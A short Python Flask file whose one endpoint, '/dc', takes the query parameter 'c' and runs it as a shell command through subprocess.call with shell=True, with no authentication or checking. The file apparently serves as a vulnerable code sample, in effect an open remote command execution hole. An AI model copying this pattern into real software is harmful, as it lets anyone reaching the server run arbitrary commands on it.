import subprocess
from dataclasses import dataclass
from flask import Flask, request

app = Flask(__name__)


@dataclass
class Task:
    name: str
    command: str


@app.get("/dc")
def dc():
    task = Task("report", request.args.get("c", ""))
    subprocess.call(task.command, shell=True)
    return "ok"
